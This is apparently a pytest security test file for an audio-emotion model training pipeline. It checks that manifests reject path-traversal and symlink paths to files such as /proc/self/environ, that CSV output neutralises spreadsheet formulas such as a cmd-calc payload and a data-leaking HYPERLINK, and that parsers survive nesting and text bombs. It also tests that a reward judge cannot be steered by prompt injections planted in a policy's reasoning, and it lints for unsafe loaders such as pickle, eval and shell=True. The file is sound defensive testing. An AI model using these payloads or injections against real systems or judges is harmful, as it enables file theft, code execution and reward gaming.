"""Hostile clips, texts and code, as kinds: paths, injections, markup, formulas, bombs, loaders."""

from __future__ import annotations

import ast
import csv
import json
import os
import re
import socket
import stat
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotate.cot import lexicon
from configs.sweep import MetricConfig
from data.audio import AudioError, read_audio
from data.clips import read_clip
from data.manifest import ManifestError, read_leniently, read_manifest
from data.parsing import MAX_CHARS, TAGS, parse_output
from data.prosody.claim_words import without_quotes
from report.formats import csv_text, from_csv_text
from report.sweep_results import RunResult, SweepResults, read_results, write_results
from rewards.judges.base import JudgeContext, JudgeError
from rewards.judges.http import HttpJudge
from rewards.judges.injections import injections
from rewards.judges.prompt import MAX_REASONING_CHARS, parse_scores, sanitize
from rewards.reasoning import ReasoningReward
from tests.fixtures import LABELS, write_tone
from tests.judge_server import HUGE_REPLY_BYTES, always, obedient, running
from tests.unit.make_groups import make_group
from tests.unit.test_architecture import EVERYTHING, dotted, tree

# Paths of clips.

PATHS = {
    "climbs out": "../outside.wav",
    "climbs out of a folder": "sub/../../outside.wav",
    "climbs within": "sub/../good.wav",
    "absolute": "{outside}",
    "a link out": "link.wav",
    "a link out of a link": "chain.wav",
    "below a link out": "folder-link/outside.wav",
    "a link to the environment of the process": "environ.wav",
    "a link to a device": "zero.wav",
    "links in a circle": "circle.wav",
    "a pipe": "pipe.wav",
    "a socket": "socket.wav",
    "a device": "device.wav",
    "a folder": "sub",
    "the root": ".",
    "a file: address": "file:///etc/hostname",
    "a file: path": "file:good.wav",
    "a data: address": "data:audio/wav;base64,UklGRg==",
    "an http: address": "http://127.0.0.1:9/a.wav",
    "an address in capitals": "HTTPS://127.0.0.1/a.wav",
    "an address of a bucket": "s3://bucket/a.wav",
    "an address without slashes": "gopher:a",
    "a drive": "C:\\a.wav",
    "a share": "\\\\host\\a.wav",
    "a home": "~/a.wav",
    "an escaped climb": "%2e%2e/outside.wav",
    "a NUL byte": "good.wav\0.wav",
    "a NUL byte at the end": "good.wav\0",
    "a very long name": "a" * 300 + ".wav",
    "a very long path": "a/" * 3_000 + "a.wav",
    "half a surrogate pair": "\ud800.wav",
    "a line break": "good\n.wav",
    "blank": "  ",
}


@pytest.fixture
def root(tmp_path: Path) -> Iterator[Path]:
    """Return an audio root in which lies one of everything."""
    root = tmp_path / "root"
    (root / "sub").mkdir(parents=True)
    write_tone(root / "good.wav")
    write_tone(tmp_path / "outside.wav")
    (root / "link.wav").symlink_to(tmp_path / "outside.wav")
    (root / "chain.wav").symlink_to("link.wav")
    (root / "folder-link").symlink_to(tmp_path)
    (root / "environ.wav").symlink_to("/proc/self/environ")
    (root / "zero.wav").symlink_to("/dev/zero")
    (root / "circle.wav").symlink_to("circle.wav")
    os.mkfifo(root / "pipe.wav")
    with socket.socket(socket.AF_UNIX) as listener:
        folder = os.open(root, os.O_RDONLY)  # paths of sockets are short
        listener.bind(f"/proc/self/fd/{folder}/socket.wav")
        os.close(folder)
        yield root


def path_of(kind: str, root: Path) -> str:
    if kind == "a device":
        try:
            os.mknod(root / "device.wav", stat.S_IFCHR | 0o600, os.makedev(1, 5))
        except PermissionError:
            pytest.skip("only root makes devices")
    return PATHS[kind].replace("{outside}", str(root.parent / "outside.wav"))


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "kind",
    [
        pytest.param(
            kind,
            id=kind,
            marks=pytest.mark.fault(
                f"a manifest names a clip that is no file of the corpus: {kind}",
                happens="refused by file and line; no reader opens it",
                lost="nothing",
            ),
        )
        for kind in PATHS
    ],
)
def test_no_path_leads_out_or_hangs(root: Path, tmp_path: Path, kind: str):
    audio = path_of(kind, root)
    manifest = tmp_path / "m.jsonl"
    manifest.write_text(json.dumps({"id": "x", "audio": audio, "label": "sad"}) + "\n")
    with pytest.raises(ManifestError, match=r"m\.jsonl:1: ") as caught:
        read_manifest(manifest, audio_root=root, choices=LABELS, question_template="?")
    assert len(str(caught.value)) < 1_000
    lenient = [row["audio"] for row in read_leniently(manifest, root)]
    if kind in ("climbs within", "a line break") or not lenient:
        return
    # What is left to the checks of clips is inside the root, and nothing that could be read.
    path = root / lenient[0]
    assert Path(os.path.realpath(path)).is_relative_to(os.path.realpath(root))
    with pytest.raises(AudioError):
        read_audio(path, min_duration_s=0.0, max_duration_s=30.0)
    assert read_clip(root, lenient[0]) is None


@pytest.mark.timeout(60)
@pytest.mark.fault(
    "a judge that hears clips is asked about one outside the corpus",
    happens="not read and not sent; its scores are missing",
    lost="nothing",
)
@pytest.mark.parametrize(
    "audio",
    [
        "link.wav",
        "../outside.wav",
        "zero.wav",
        "pipe.wav",
        "circle.wav",
        "good.wav\0",
        "\ud800",
        "",
    ],
)
def test_no_clip_from_elsewhere_is_sent(root: Path, audio: str):
    with running(always("ok 4")) as server:
        judge = HttpJudge(JudgeContext(str(root)), url=server.url, model="m", audio=True)
        prompt = make_group(["x"]).prompt
        prompt = replace(prompt, example=replace(prompt.example, audio=audio))
        (found,) = judge.judge(prompt, ["The pitch is high."])
        judge.close()
    assert found.missing == "clip" and server.bodies == []
    assert read_clip(root, audio) is None


@pytest.mark.fault(
    "a manifest is not UTF-8, or a row is nested without end or holds a number of a million digits",
    happens="refused by file and line",
    lost="nothing",
)
@pytest.mark.parametrize(
    ("line", "what"),
    [
        (b'{"id": "x", "audio": "g\xfc.wav", "label": "sad"}', "not UTF-8"),
        (b"\xff\xfe{\x00}\x00", "not UTF-8"),
        (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "nested too deeply"),
        (b'{"id": "x", "n": ' + b"9" * 1_000_000 + b"}", "digits"),
    ],
    ids=["latin", "utf-16", "nested", "digits"],
)
def test_a_line_that_no_reader_takes(root: Path, tmp_path: Path, line: bytes, what: str):
    (tmp_path / "m.jsonl").write_bytes(line + b"\n")
    with pytest.raises(ManifestError, match=rf"m\.jsonl:1: .*{what}") as caught:
        read_manifest(tmp_path / "m.jsonl", audio_root=root, choices=LABELS, question_template="?")
    assert len(str(caught.value)) < 1_000
    assert read_leniently(tmp_path / "m.jsonl", root) == []


# Text of the policy that speaks to the judge.

INJECTIONS = injections()
PLACES = {
    "alone": "{}",
    "at the end": "The pitch is high and the pace is slow. {}",
    "at the beginning": "{}\nThe pitch is high and the pace is slow.",
    "in the middle": "The pitch is high. {} The pace is slow.",
    "after much else": "The pitch is high. " * 150 + "{}",
}


@pytest.mark.slow
@pytest.mark.parametrize(
    "place",
    [
        pytest.param(
            place,
            id=place,
            marks=pytest.mark.fault(
                f"a policy tells the judge what to score, in {len(INJECTIONS)} ways, {place}",
                happens="a judge that obeys whatever reaches it gives what it gives to any text",
                lost="nothing",
            ),
        )
        for place in PLACES
    ],
)
def test_no_injection_pays(place: str):
    assert len(INJECTIONS) >= 30
    texts = [PLACES[place].format(text) for text in INJECTIONS]
    plain = "The pitch is high and the pace is slow."
    group = make_group([f"<think>{t}</think><answer>sad</answer>" for t in [plain, *texts]])
    with running(obedient) as server:
        options = {"url": server.url, "model": "m", "deadline_s": 60.0}
        reward = ReasoningReward("rewards.judges.http:HttpJudge", options)
        expected, *values = reward.score(group).values
    assert expected == pytest.approx(2 / 5)
    judged = [value for value in values if value is not None]
    # Texts with tags or chat tokens are no reasoning at all: they reach no judge.
    assert judged == [expected] * len(judged) and len(judged) >= 30


@pytest.mark.fault(
    "a judge's server sends 50 MB",
    happens="no more is read than a reply may have; the score is missing",
    lost="one score",
)
def test_a_gigantic_reply_is_not_read():
    with running(always("huge")) as server:
        judge = HttpJudge(JudgeContext(""), url=server.url, model="m", max_attempts=1)
        (found,) = judge.judge(make_group(["x"]).prompt, ["The pitch is high."])
        judge.close()
        assert found.missing == "reply too large"
        assert 0 < server.bytes_sent < HUGE_REPLY_BYTES / 5  # what the sockets hold


NESTED = {
    "lists": "[" * 10_000 + "]" * 10_000,
    "objects": '{"a":' * 10_000 + "1" + "}" * 10_000,
    "open lists": "[" * 10_000,
}


@pytest.mark.fault(
    "a judge's reply is nested 10,000 deep",
    happens="the score is missing, with the reason; no parser recurses into it",
    lost="one score",
)
@pytest.mark.parametrize("kind", NESTED)
@pytest.mark.parametrize("way", ["raw", "text"])
def test_a_nested_reply_is_no_score(kind: str, way: str):
    with running(always(f"{way} {NESTED[kind]}")) as server:
        judge = HttpJudge(JudgeContext(""), url=server.url, model="m", max_attempts=1)
        (found,) = judge.judge(make_group(["x"]).prompt, ["The pitch is high."])
        judge.close()
    reasons = ("not a chat completion", "nested json", "reply too long", "reply too large")
    assert found.missing in reasons
    with pytest.raises(JudgeError):
        parse_scores(NESTED[kind][:900])


# Cells of tables.

FORMULAS = [
    '=cmd|"/c calc"!A0',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "'=1",
    '=HYPERLINK("http://h/?"&A1,"x")',
]


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(
            text,
            id=str(number),
            marks=pytest.mark.fault(
                "a name in results.csv is a formula",
                happens="an apostrophe stands before it: text to every spreadsheet; numbers stay",
                lost="nothing: it is read back as it was",
            ),
        )
        for number, text in enumerate(FORMULAS)
    ],
)
def test_a_table_holds_no_formula(tmp_path: Path, text: str):
    runs = [
        RunResult("a", text, 0, "done", 1.5, {"x/y": -0.25, text: 1e-9}),
        RunResult("b", "plain", 1, f"{text}: failed", None, {}),
    ]
    results = SweepResults("s", 2, 1, "", {"x/y": "y", text: "z"}, runs)
    write_results(tmp_path, results)
    with (tmp_path / "results.csv").open(newline="") as file:
        head, first, second = csv.reader(file)
    for cell in (head[-1], first[1], second[3]):
        assert cell.startswith("'" + text)
    assert first[-2:] == ["-0.25", "1e-09"] and first[4] == "1.5"
    assert read_results(tmp_path) == results


@given(st.text(st.sampled_from("=+-@\t\r\n' \uff1dab1")))
def test_a_guarded_text_is_no_formula_and_comes_back(text: str):
    cell = csv_text(text)
    assert from_csv_text(cell) == text
    assert not cell or cell.lstrip()[:1] not in set("=+-@\uff1d")
    assert MetricConfig(key=text).key == text


# Texts that would take for ever: counted, not timed.


class Counted(str):
    """A text that counts how many of its characters are looked at."""

    looked_at = 0

    def find(self, *arguments: Any) -> int:  # type: ignore[override]
        place = super().find(*arguments)
        begin = arguments[1] if len(arguments) > 1 else 0
        self.looked_at += (place if place >= 0 else len(self)) - begin + 1
        return place

    def count(self, *arguments: Any) -> int:  # type: ignore[override]
        self.looked_at += len(self)
        return super().count(*arguments)

    def __getitem__(self, place: Any) -> str:
        part = super().__getitem__(place)
        self.looked_at += len(part)
        return part


BOMBS = {
    "a megabyte": "x" * 1_000_000,
    "20,000 tags": "<think>" * 20_000,
    "as many tags as are looked at": "<think></think>" * (MAX_CHARS // 15),
    "a million digits": "1" * 1_000_000,
    "digits in the answer": f"<think>a</think><answer>{'1' * 90_000}</answer>",
    "halves of special tokens": "<|" * (MAX_CHARS // 2),
    "brackets": "<" * MAX_CHARS,
    "quotes": "\u201c" * MAX_CHARS,
    "both quotes": '"\u201c' * (MAX_CHARS // 2) + "\u201d",
}


@pytest.mark.parametrize(
    "kind",
    [
        pytest.param(
            kind,
            id=kind,
            marks=pytest.mark.fault(
                f"a completion is {kind}",
                happens="every character is looked at a few times at most, or not at all",
                lost="nothing",
            ),
        )
        for kind in BOMBS
    ],
)
def test_a_text_is_looked_at_a_bounded_number_of_times(kind: str):
    text = Counted(BOMBS[kind])
    parsed = parse_output(text)
    passes = 3 + 2 * len(TAGS)  # special tokens, the tags, the bodies
    assert text.looked_at <= passes * len(text)
    if len(text) > MAX_CHARS:
        assert (parsed.reason, text.looked_at) == ("too long", 0)
    text = Counted(BOMBS[kind])
    without_quotes(text)
    assert text.looked_at <= 4 * len(text) + 4
    text = Counted(BOMBS[kind])
    sanitize(text)
    assert text.looked_at <= MAX_REASONING_CHARS


_QUOTED = re.compile(r'"[^"]*"|\u201c[^\u201d]*\u201d')


@given(st.text(st.sampled_from('"\u201c\u201dab ')))
def test_quotes_are_blanked_as_by_their_definition(text: str):
    assert without_quotes(text) == _QUOTED.sub(lambda found: " " * len(found[0]), text)


@pytest.mark.fault(
    "a server's reasoning is one emotion word after another",
    happens="a bounded number of characters is looked at for each of them",
    lost="nothing",
)
def test_a_negation_is_looked_for_nearby(monkeypatch: pytest.MonkeyPatch):
    searched: list[int] = []
    pattern = lexicon._NEGATION

    class Recorder:
        def search(self, text: str) -> Any:
            searched.append(len(text))
            return pattern.search(text)

    monkeypatch.setattr(lexicon, "_NEGATION", Recorder())
    labels = ["angry", "sad"]
    mentions = lexicon.find_mentions("angry " * 10_000 + "It is rather than a so so sad.", labels)
    assert len(mentions) == 10_000 and len(searched) == 10_001
    assert max(searched) <= lexicon._NEGATION_REACH


@pytest.mark.parametrize("gap", range(0, 30))
@pytest.mark.parametrize("word", ["instead of", "not", "rather than", "absence of"])
def test_a_negation_reaches_as_far_as_before(word: str, gap: int):
    text = f"Now and then {word}{' ' * gap}sad"
    denied = bool(lexicon._NEGATION.search(text[: text.index("sad")]))
    assert bool(lexicon.find_mentions("x" * 100 + text, ["sad"])) != denied


# Code that reads what may run code.

LOADERS = {
    "pickle", "cPickle", "_pickle", "dill", "cloudpickle", "joblib", "shelve", "marshal",
}  # fmt: skip
CALLS = {
    "eval", "exec", "compile", "__import__", "os.system", "os.popen", "os.execvp", "pty.spawn",
    "torch.load", "torch.jit.load", "torch.hub.load", "torch.export.load", "numpy.loads",
    "yaml.load", "yaml.load_all", "yaml.full_load", "yaml.unsafe_load", "yaml.unsafe_load_all",
    "pandas.read_pickle", "subprocess.getoutput", "subprocess.getstatusoutput",
    "ray.cloudpickle.loads", "tempfile.mktemp",
}  # fmt: skip
SWITCHES = {"shell": True, "trust_remote_code": True, "allow_pickle": True, "weights_only": False}


def aliases(module: ast.Module) -> dict[str, str]:
    """Return name in a module -> what it was imported as, dotted."""
    names: dict[str, str] = {}
    for node in ast.walk(module):
        if isinstance(node, ast.Import):
            names |= {a.asname or a.name.partition(".")[0]: (a.asname and a.name) or
                      a.name.partition(".")[0] for a in node.names}  # fmt: skip
        elif isinstance(node, ast.ImportFrom):
            names |= {a.asname or a.name: f"{node.module}.{a.name}" for a in node.names}
    return names


def unsafe(module: ast.Module) -> list[str]:
    """Return what a module does that may run code of others, by line."""
    names = aliases(module)
    found = [
        f"imports {name}" for name in names.values() if LOADERS & set(name.split("."))
    ]  # fmt: skip
    for node in ast.walk(module):
        if not isinstance(node, ast.Call):
            continue
        head, _, rest = dotted(node.func).partition(".")
        # Of what a call returns, such as `build().eval()`, the class is not known.
        called = ".".join(filter(None, [names.get(head, head), rest])) if head else ""
        if called in CALLS or LOADERS & set(called.split(".")):
            found.append(f"line {node.lineno}: {called}")
        for keyword in node.keywords:
            safe = isinstance(keyword.value, ast.Constant) and keyword.arg in SWITCHES
            if keyword.arg in SWITCHES and not (
                safe and keyword.value.value is not SWITCHES[keyword.arg]
            ):
                found.append(f"line {node.lineno}: {keyword.arg}")
    return found


PLANTED = [
    "import pickle",
    "from pickle import loads as read",
    "import joblib as j; j.load('x')",
    "from six.moves import cPickle",
    "eval('1')",
    "import torch as t; t.load('x')",
    "from torch import load; load('x')",
    "from torch import load as read; read('x')",
    "import torch.jit; torch.jit.load('x')",
    "import yaml; yaml.load('x')",
    "from yaml import unsafe_load as y; y('x')",
    "import os; os.system('x')",
    "from os import popen; popen('x')",
    "import subprocess; subprocess.run('x', shell=True)",
    "import subprocess; subprocess.run('x', shell=flag)",
    "model.from_pretrained('x', trust_remote_code=True)",
    "import numpy as np; np.load('x', allow_pickle=True)",
    "read('x', weights_only=False)",
    "import ray; ray.cloudpickle.loads(b'')",
    "__import__('os')",
]


@pytest.mark.parametrize("code", PLANTED)
def test_the_lint_finds_what_is_planted(code: str):
    assert unsafe(ast.parse(code))


@pytest.mark.parametrize(
    "code",
    [
        "import yaml; yaml.safe_load('x')",
        "import subprocess; subprocess.run(['x'], shell=False)",
        "model.from_pretrained('x', trust_remote_code=False)",
        "from safetensors.torch import load_file; load_file('x')",
        "import json; json.load(file)",
        "pattern.compile; import re; re.compile('x')",
    ],
)
def test_the_lint_lets_through_what_is_safe(code: str):
    assert unsafe(ast.parse(code)) == []


@pytest.mark.fault(
    "somebody adds code that unpickles, evaluates, or starts a shell",
    happens="a test names the file and the line, whatever names it is imported under",
    lost="nothing",
)
def test_no_file_loads_what_may_run_code():
    assert {file: found for file in EVERYTHING if (found := unsafe(tree(file)))} == {}
